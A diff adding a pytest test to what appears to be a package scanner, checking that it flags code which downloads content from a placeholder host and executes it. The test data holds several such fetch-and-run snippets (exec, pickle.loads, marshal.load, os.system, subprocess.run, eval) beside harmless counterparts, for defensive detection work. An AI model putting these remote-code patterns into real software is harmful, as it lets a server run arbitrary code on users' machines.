@@ -502,3 +502,43 @@ def test_the_name_of_a_page_is_no_host() -> None:
     )
     assert scan(package(tool.format(end=".vendor.dev"))).egress == ("*.*.vendor.dev",)
     assert scan(package(tool.format(end=".html"))).egress == ()
+
+
+CLIENT = """
+class Client:
+    def __init__(self):
+        self.reply = fetch(URL)
+    def run(self):
+        eval({run})
+Client().run()
+"""
+FETCH = """
+import requests
+URL = "https://code.vendor.dev/v"
+def fetch(url):
+    reply = requests.get(url)
+    return reply
+"""
+
+
+@pytest.mark.parametrize(
+    ("bad", "good"),
+    [
+        ("exec(fetch(URL).text)", "exec(open('acme/_version.py').read())"),
+        ("code = compile(fetch(URL).text, 'x', 'exec')\nexec(code)", "import json\njson.loads(fetch(URL).text)"),
+        ("import pickle\npickle.loads(fetch(URL).content)", "import pickle\npickle.load(open('acme/model.pkl', 'rb'))"),
+        (
+            "import marshal\nfrom urllib.request import urlopen\nwith urlopen(URL) as reply:\n    marshal.load(reply)",
+            "import marshal\nmarshal.loads(marshal.dumps(1))",
+        ),
+        ("import os\nos.system(fetch(URL).text)", "import os\nos.system('echo ' + fetch(URL).text)"),
+        (
+            "import subprocess\nsubprocess.run(fetch(URL).text.split())",
+            "import subprocess\nsubprocess.run(['echo', fetch(URL).text])",
+        ),
+        (CLIENT.format(run="self.reply.text"), CLIENT.format(run="'1'")),
+    ],
+)  # fmt: skip
+def test_what_a_server_answers_is_executed(bad: str, good: str) -> None:
+    assert "remote-code" in on(scan(package(FETCH + bad + "\n")))
+    assert "remote-code" not in on(scan(package(FETCH + good + "\n")))
